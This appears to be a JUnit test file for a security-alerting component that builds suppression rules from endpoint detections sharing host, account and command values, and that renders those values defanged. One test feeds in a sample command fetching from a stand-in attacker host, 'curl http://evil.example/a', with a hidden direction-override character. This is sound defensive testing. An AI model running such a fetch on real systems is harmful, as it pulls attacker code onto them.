package dev.takagari.alerting.note;

import static org.assertj.core.api.Assertions.assertThat;

import dev.takagari.core.cases.SuppressionRule;
import dev.takagari.core.detection.Detection;
import dev.takagari.core.detection.DetectionDraft;
import dev.takagari.core.detection.Detections;
import dev.takagari.core.event.Columns;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;

class AlikeRuleTest {

  private static Detection with(String host, String account, String command) {
    return DetectionDraft.like(Detections.of("falcon:1", "group", "0142"))
        .fields(
            Detections.fields(
                Columns.HOST_NAME, host,
                Columns.USER_NAME, account,
                Columns.PROCESS_COMMAND_LINE, command))
        .detection();
  }

  private static Map<String, String> shared(long hosts, Detection... detections) {
    return AlikeRule.of(new CaseDraft().hosts(hosts).found(), List.of(detections))
        .map(rule -> Map.copyOf(rule.entity()))
        .orElse(Map.of());
  }

  @Test
  void itIsOfTheSourceAndTheRuleAndOfWhatAllShare() {
    SuppressionRule rule =
        AlikeRule.of(new CaseDraft().found(), List.of(with("ws-1", "dana", "whoami")))
            .orElseThrow();

    assertThat(rule.source()).isEqualTo("falcon");
    assertThat(rule.ruleId()).isEqualTo("SuspiciousPowerShell");
    assertThat(rule.entity())
        .containsExactlyInAnyOrderEntriesOf(
            Map.of("host.name", "ws-1", "user.name", "dana", "process.command_line", "whoami"));
    assertThat(shared(1, with("ws-1", "dana", "whoami"), with("ws-1", "dana", "id")))
        .containsOnlyKeys("host.name", "user.name");
    assertThat(shared(1, with("ws-1", "dana", "whoami"), with("ws-1", "erin", "id")))
        .containsOnlyKeys("host.name");
  }

  @Test
  void aHostIsSharedOnlyWhenItIsTheOnlyOne() {
    assertThat(shared(2, with("ws-1", "dana", "whoami")))
        .containsOnlyKeys("user.name", "process.command_line");
    assertThat(shared(2, with("ws-1", "dana", "whoami"), with("ws-2", "erin", "id"))).isEmpty();
  }

  @Test
  void aHostWithoutANameIsOfItsId() {
    assertThat(shared(1, Detections.of("falcon:1", "group", "0142")))
        .containsEntry("host.name", "ws-0142");
    assertThat(
            shared(
                1,
                DetectionDraft.like(Detections.of("falcon:1", "group", "0142"))
                    .fields(Detections.fields(Columns.HOST_ID, "0142"))
                    .detection()))
        .containsExactly(Map.entry("host.id", "0142"));
  }

  @Test
  void aValueThatWouldBeAPatternIsNotCompared() {
    assertThat(shared(1, with("ws-1", "*", "del *.tmp"))).containsOnlyKeys("host.name");
    assertThat(shared(1, with("*", "*", "*"))).isEmpty();
  }

  @Test
  void itsWordsAreHarmlessAndSayAllOfIt() {
    SuppressionRule rule =
        AlikeRule.of(
                new CaseDraft().found(),
                List.of(with("ws-1", "a.tanaka", "curl http://evil.example/a\u202e")))
            .orElseThrow();

    assertThat(AlikeRule.words(rule, value -> "<" + value + ">"))
        .isEqualTo(
            "what the rule <SuspiciousPowerShell> of <falcon> detects on the host <ws-1> by the"
                + " account <a.tanaka> with the command <curl hxxp[://]evil[.]example/a\ufffd>");
  }

  @Test
  void itsDigestTellsItFromOthers() {
    Optional<SuppressionRule> rule =
        AlikeRule.of(new CaseDraft().found(), List.of(with("ws-1", "dana", "whoami")));
    Optional<SuppressionRule> wider =
        AlikeRule.of(new CaseDraft().hosts(2).found(), List.of(with("ws-1", "dana", "whoami")));

    assertThat(AlikeRule.digest(rule)).isEqualTo(AlikeRule.digest(rule)).matches("[0-9a-f]{64}");
    assertThat(List.of(AlikeRule.digest(wider), AlikeRule.digest(Optional.empty())))
        .doesNotContain(AlikeRule.digest(rule));
  }
}
